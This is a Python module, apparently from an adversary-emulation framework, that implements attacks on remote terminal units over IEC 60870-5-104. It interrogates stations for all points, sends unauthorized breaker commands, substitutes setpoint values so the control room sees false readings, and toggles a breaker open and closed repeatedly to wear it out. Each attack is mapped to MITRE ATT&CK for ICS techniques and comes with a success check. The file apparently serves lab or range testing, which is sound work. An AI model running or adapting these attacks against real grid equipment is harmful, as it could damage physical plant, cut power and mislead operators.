# Techniques against remote terminal units, over IEC 60870-5-104: everything asked for, breakers
# commanded, values substituted so that the control room sees what is not so.
from __future__ import annotations

from policies import AttackStep, Fidelity, Title

from .station import Station
from .technique import Attacker, Seen, Technique, number

__all__ = ["STATION_TECHNIQUES"]

_EVERYWHERE: frozenset[Fidelity] = frozenset({"memory", "loopback", "netns"})
_PORT = 2404
_INTERROGATED, _TERMINATED = 100, 10


async def _interrogate(attacker: Attacker, step: AttackStep, target: str) -> None:
    station = await _at(attacker, target)
    for _ in range(int(number(step, "times", 1))):
        await station.interrogate()
        await station.listen(number(step, "pause_s", 5))
    await station.close()


async def _command(attacker: Attacker, step: AttackStep, target: str) -> None:
    station = await _at(attacker, target)
    await _switch(station, int(number(step, "at", 0)), on=bool(number(step, "value", 0)))
    await station.close()


async def _substitute(attacker: Attacker, step: AttackStep, target: str) -> None:
    """Values put in by hand for points from one address on, each as it should look."""
    station = await _at(attacker, target)
    values = [float(each) for each in str(step.parameters.get("values", "1")).split()]
    for place, value in enumerate(values):
        await station.setpoint(int(number(step, "at", 0)) + place, value)
    await station.close()


async def _toggle(attacker: Attacker, step: AttackStep, target: str) -> None:
    """A breaker opened and closed, again and again."""
    station = await _at(attacker, target)
    for turn in range(int(number(step, "turns", 10))):
        await _switch(station, int(number(step, "at", 0)), on=bool(turn % 2))
        await station.listen(number(step, "pause_s", 2))
    await station.close()


async def _at(attacker: Attacker, target: str) -> Station:
    return await Station.open(attacker.wire, attacker.clock, attacker.address, target)


async def _switch(station: Station, at: int, *, on: bool) -> None:
    """A command given; where it is refused at once, selected first."""
    if not await station.command(at, on=on):
        await station.command(at, on=on, select=True)


def _was_told(_step: AttackStep, seen: Seen) -> bool:
    """Whether an interrogation came to its end."""
    return any(
        each.kind == "reply" and each.port == _PORT and _ends_interrogation(each.payload)
        for each in seen.frames
    )


def _ends_interrogation(payload: bytes) -> bool:
    last = payload[-16:]
    return len(last) == 16 and last[6] == _INTERROGATED and last[8] == _TERMINATED


def _obeyed(step: AttackStep, seen: Seen) -> bool:
    point = str(step.parameters.get("point", ""))
    before, after = seen.points
    return before.get(point) != after.get(point)


def _is_deceived(step: AttackStep, seen: Seen) -> bool:
    """Whether a screen shows a named point otherwise than it is, or a value was put in at all."""
    point = str(step.parameters.get("point", ""))
    before, after = seen.settings
    return point in seen.deceived if point else before != after


def _worn(step: AttackStep, seen: Seen) -> bool:
    return seen.switches >= number(step, "turns", 10) / 2


STATION_TECHNIQUES = {
    "rtu-interrogate": Technique(
        {
            "T0888": Title(zh="远程系统信息发现", en="Remote System Information Discovery"),
            "T0861": Title(zh="点位与标签识别", en="Point & Tag Identification"),
            "T0801": Title(zh="监视过程状态", en="Monitor Process State"),
        },
        _EVERYWHERE, _interrogate, _was_told,
    ),
    "rtu-command": Technique(
        {"T1692.001": Title(zh="未授权报文：命令报文", en="Unauthorized Message: Command Message")},
        _EVERYWHERE, _command, _obeyed,
    ),
    "rtu-substitute": Technique(
        {
            "T1692.002": Title(zh="未授权报文：上报报文", en="Unauthorized Message: Reporting Message"),
            "T0832": Title(zh="操纵视图", en="Manipulation of View"),
        },
        _EVERYWHERE, _substitute, _is_deceived,
    ),
    "rtu-toggle": Technique(
        {
            "T0831": Title(zh="操纵控制", en="Manipulation of Control"),
            "T0806": Title(zh="暴力I/O", en="Brute Force I/O"),
        },
        _EVERYWHERE, _toggle, _worn,
    ),
}  # fmt: skip
